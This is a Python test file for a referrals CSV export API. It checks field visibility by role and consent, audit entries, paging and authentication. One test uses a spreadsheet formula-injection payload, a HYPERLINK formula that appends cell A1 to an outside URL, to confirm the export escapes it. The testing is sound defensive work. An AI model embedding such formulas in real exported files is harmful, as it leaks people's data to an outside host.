"""Referrals as a file: who gets which lines, and what stands in them."""

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import select

from api.interchange import export
from directory import database
from directory.people import queries as people
from directory.people import service as people_service
from directory.people.models import AuditEntry, Purpose
from tests.api.conftest import Api, problem
from tests.api.interchange.conftest import Pantry
from tests.directory.referrals.builders import a_referral, read
from tests.fakes import MORNING

STAFF = "/api/v1/referrals.csv"


def staff_file(api: Api, **query: str) -> list[dict[str, str]]:
    answer = api.client.get(STAFF, headers=api.staff(), params=query)
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_a_partner_gets_its_own_with_details_only_while_it_acts(pantry: Pantry) -> None:
    asked, accepted = pantry.referral(), pantry.referral(number=1)
    with database.session_scope() as session:
        other = a_referral(session, need="rent", contact=False)
    assert read(other).organization_id != pantry.organization_id
    pantry.sent(f"{accepted},accepted,,")
    first, second = pantry.file()
    assert [first["id"], second["id"]] == [asked, accepted]
    assert {first["name"], first["phone"], first["about"], first["call_note"]} == {""}
    assert (first["need"], first["requested_at"]) == ("food", "2026-03-18 09:50")
    assert second["name"] == "Maria"
    assert second["phone"] == "630-555-0101"
    assert second["about"] == "No groceries"
    assert second["call_note"] == "texts are fine"
    pantry.sent(f"{accepted},completed,,")
    assert pantry.file()[1]["name"] == "", "afterwards the minimum again"


def test_details_go_with_the_consent(pantry: Pantry) -> None:
    referral_id = pantry.referral()
    pantry.sent(f"{referral_id},accepted,,")
    with database.session_scope() as session:
        person = people.by_id(session, read(referral_id).person_id)
        assert person is not None
        people_service.revoke(session, person, Purpose.REFERRAL, now=MORNING + timedelta(minutes=1))
    [line] = pantry.file()
    assert (line["status"], line["name"], line["about"]) == ("accepted", "", "")


def test_a_draft_is_in_nobodys_file_but_staffs(pantry: Pantry) -> None:
    with database.session_scope() as session:
        draft = a_referral(session, contact=False, draft=True)
    assert pantry.file() == []
    [line] = staff_file(pantry.api)
    assert (line["id"], line["requested_at"]) == (draft, "")


def test_no_cell_runs_when_the_file_is_opened(pantry: Pantry) -> None:
    evil = '=HYPERLINK("http://example.org/?"&A1)'
    referral_id = pantry.referral(reason=evil, name="@SUM(1)")
    pantry.sent(f"{referral_id},accepted,,")
    [line] = pantry.file()
    assert (line["about"], line["name"]) == (f"'{evil}", "'@SUM(1)")
    assert staff_file(pantry.api)[0]["about"] == f"'{evil}"


def test_staff_gets_all_of_them_without_names_and_numbers(pantry: Pantry) -> None:
    referral_id = pantry.referral()
    pantry.sent(f"{referral_id},rejected,Full,")
    [line] = staff_file(pantry.api)
    assert (line["status"], line["reason"], line["about"]) == ("rejected", "Full", "No groceries")
    assert line["person_id"] == read(referral_id).person_id
    assert not {"name", "phone"} & set(line)
    assert "555" not in "".join(line.values())


def test_since_leaves_out_what_has_not_changed(pantry: Pantry) -> None:
    pantry.referral()
    second = pantry.referral(number=1)
    pantry.sent(f"{second},accepted,,")
    mark = read(second).changed_at.isoformat()
    assert [each["id"] for each in staff_file(pantry.api, since=mark)] == [second]
    for since in ("monday", "1774000000", "1774000000000"):
        answer = pantry.api.client.get(STAFF, headers=pantry.api.staff(), params={"since": since})
        problem(answer, 422, "malformed")


def test_whose_referrals_a_file_holds_is_noted_before_it_leaves(pantry: Pantry) -> None:
    person_id = read(pantry.referral()).person_id
    pantry.file()
    staff_file(pantry.api)
    with database.read_scope() as session:
        noted = [
            each.actor
            for each in people.audit_of(session, person_id)
            if each.action == "referrals.export"
        ]
    assert len(noted) == 2
    assert noted[0].startswith("partner:")


def test_an_empty_file_is_noted_too(pantry: Pantry) -> None:
    assert pantry.file() == []
    with database.read_scope() as session:
        assert session.scalars(select(AuditEntry.action)).all() == ["referrals.export"]


def test_excel_may_have_its_mark(pantry: Pantry) -> None:
    answer = pantry.api.client.get(STAFF, headers=pantry.api.staff(), params={"excel": "true"})
    assert answer.content.startswith(b"\xef\xbb\xbfid,status,")
    assert answer.headers["content-disposition"].startswith("attachment")


def test_a_long_file_comes_a_page_at_a_time(
    pantry: Pantry, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "AT_ONCE", 2)
    made = [pantry.referral(number=n) for n in range(5)]
    assert [each["id"] for each in pantry.file()] == made
    assert [each["id"] for each in staff_file(pantry.api)] == made


def test_the_files_are_for_those_who_have_a_key_or_a_token(pantry: Pantry) -> None:
    client = pantry.api.client
    problem(client.get(STAFF), 401, "token_missing")
    problem(client.get(STAFF, headers={"X-API-Key": pantry.key}), 401, "token_missing")
    problem(client.get("/api/v1/partner/referrals.csv"), 401, "key_missing")
    problem(client.post("/api/v1/partner/referrals.csv", content=b"x"), 401, "key_missing")
